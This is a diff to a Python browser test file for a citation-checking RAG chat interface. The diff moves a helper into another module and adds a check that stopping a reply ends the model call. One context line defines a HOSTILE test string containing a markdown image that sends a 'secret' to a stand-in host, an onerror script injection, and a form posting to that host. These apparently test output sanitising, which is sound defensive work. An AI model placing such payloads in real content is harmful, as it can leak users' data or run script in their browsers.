@@ -8,14 +8,12 @@ from typing import Any
 import pytest
 from browsing import WAIT_MS, Open, Scripted, serve
 from llm_server import LlmServer, Reply
-from scripted import LENGTH
+from scripted import LENGTH, with_evidence
 
 from index.config import LlmSettings
 from index.embed import Embedder
-from index.types import Passage, Sentence
 from rag.check import Checker
 from rag.providers import connect
-from rag.types import Answer, Evidence
 from rag.worded import Worded
 from ui.strings import ENGLISH
 
@@ -23,15 +21,6 @@ OPENED, FOLLOW_UP = "متى افتُتح جسر النورس؟", "ومتى اف�
 SAID = "طول جسر النورس 412 مترًا"
 WRONG = "طول جسر النورس 512 مترًا"
 HOSTILE = "![](http://192.0.2.1/?q=secret) <img src=x onerror=hacked=1> <form action=//192.0.2.1>"
-
-
-def with_evidence(answer: Answer) -> Answer:
-    """An answer that found the passage whose sentences it cites."""
-    cited = [c for c in answer.citations if c.document.id == answer.citations[0].document.id]
-    document = cited[0].document
-    passage = Passage(f"{document.id}-0", document.id, "", tuple(Sentence(c.start, c.end) for c in cited))
-    found = Evidence(1, passage, document, document.text[passage.start : passage.end], 2.0, {"passage": 0.9})
-    return replace(answer, evidence=(found,))
 
 
 def says(*lines: str, **further: Any) -> Reply:
@@ -154,7 +143,7 @@ def test_where_the_model_fails_the_documents_own_sentences_stand_with_a_notice(
 
 
 def test_what_a_model_says_appears_before_it_is_done_and_stopping_it_loses_nothing(
-    visit: Open, address: str, reply: Script, script: Scripted
+    visit: Open, address: str, reply: Script, script: Scripted, model: LlmServer
 ) -> None:
     reply(says(f"{SAID} [N].", "وهو", hang=True))
     opened = visit(address, locale="en")
@@ -166,6 +155,7 @@ def test_what_a_model_says_appears_before_it_is_done_and_stopping_it_loses_nothi
     page.locator("#conversation .cite").first.click()
     page.locator("#src-1-1.lit").wait_for()
     page.locator("#stop").click()
+    assert model.gone.wait(20)
     page.locator("#conversation .facts").wait_for()
     own = [sentence.text for sentence in script.script[LENGTH].sentences]
     assert page.locator("#conversation .said").all_inner_texts() == own
